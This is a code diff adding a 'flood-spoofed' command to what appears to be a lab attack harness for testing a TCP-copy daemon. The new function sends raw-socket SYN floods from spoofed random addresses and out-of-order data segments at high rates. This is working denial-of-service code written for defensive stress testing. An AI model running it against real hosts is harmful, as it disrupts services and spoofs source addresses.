@@ -8,6 +8,8 @@ and time.
     flood-routes HOST PORT            registers random sessions as fast as it can
     flood-connections HOST PORT       opens many control connections and holds them
     forge SRC DST SPORT DPORT         sends forged TCP segments (a raw socket)
+    flood-spoofed DST DPORT           sends spoofed client segments at a rate: SYNs from
+                                      random ports, or data out of order for a few sessions
 """
 from __future__ import annotations
 
@@ -136,6 +138,49 @@ def forge(args: argparse.Namespace) -> dict:
     return {"sent": sent}
 
 
+def flood_spoofed(args: argparse.Namespace) -> dict:
+    """Spoofed client segments toward the online host, ``rate`` a second for ``seconds``:
+    ``syn``: SYNs from random addresses of ``src_net`` and random ports (a new session
+    each); ``ooo``: data of ``sessions`` sessions, each segment somewhere in the MiB after
+    its first (held out of order, never filled)."""
+    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    dst = socket.inet_aton(args.dst)
+    net = args.src_net.rsplit(".", 1)[0] + "."
+    rng = random.Random(args.seed)
+    sessions = [(socket.inet_aton(net + str(rng.randrange(10, 250))),
+                 rng.randrange(1024, 65536), rng.randrange(1 << 32))
+                for _ in range(args.sessions)]
+    payload = os.urandom(args.payload)
+    opened: set[int] = set()
+    sent = 0
+    start = time.monotonic()
+    end = start + args.seconds
+    while time.monotonic() < end:
+        batch_due = start + sent / args.rate
+        delay = batch_due - time.monotonic()
+        if delay > 0:
+            time.sleep(delay)
+        for _ in range(100):
+            if args.mode == "syn":
+                src, sport = socket.inet_aton(net + str(rng.randrange(10, 250))), \
+                    rng.randrange(1024, 65536)
+                pkt = packet.build(src, dst, sport, args.dport, rng.randrange(1 << 32), 0,
+                                   packet.SYN, 64240, packet.syn_options(1460, 7, True, None))
+            else:
+                i = rng.randrange(len(sessions))
+                src, sport, isn = sessions[i]
+                # its first segment opens the session; the others land beyond a gap
+                offset = rng.randrange(2 * args.payload, 1 << 20) if i in opened else 0
+                opened.add(i)
+                seq = (isn + offset) & 0xFFFFFFFF
+                pkt = packet.build(src, dst, sport, args.dport, seq, 1, packet.ACK, 502, b"",
+                                   payload)
+            raw.sendto(pkt, (args.dst, 0))
+            sent += 1
+    raw.close()
+    return {"sent": sent, "seconds": round(time.monotonic() - start, 1)}
+
+
 def main(argv: list[str] | None = None) -> int:
     ap = argparse.ArgumentParser(prog="python -m tcpcopyd.lab.attack", description=__doc__,
                                  formatter_class=argparse.RawDescriptionHelpFormatter)
@@ -172,9 +217,20 @@ def main(argv: list[str] | None = None) -> int:
     g.add_argument("--payload", type=int, default=0)
     g.add_argument("--count", type=int, default=1)
     g.add_argument("--seed", type=int, default=1)
+    sp = sub.add_parser("flood-spoofed")
+    sp.add_argument("dst")
+    sp.add_argument("dport", type=int)
+    sp.add_argument("--mode", choices=("syn", "ooo"), default="syn")
+    sp.add_argument("--src-net", default="198.18.1.0/24")
+    sp.add_argument("--rate", type=int, default=10000)
+    sp.add_argument("--seconds", type=float, default=10.0)
+    sp.add_argument("--sessions", type=int, default=64)
+    sp.add_argument("--payload", type=int, default=1000)
+    sp.add_argument("--seed", type=int, default=1)
     args = ap.parse_args(argv)
     run = {"register": register, "flood-routes": flood_routes,
-           "flood-connections": flood_connections, "forge": forge}[args.command]
+           "flood-connections": flood_connections, "forge": forge,
+           "flood-spoofed": flood_spoofed}[args.command]
     out = run(args)
     print(" ".join(f"{k}={v}" for k, v in out.items() if k != "reason"))
     if "reason" in out:
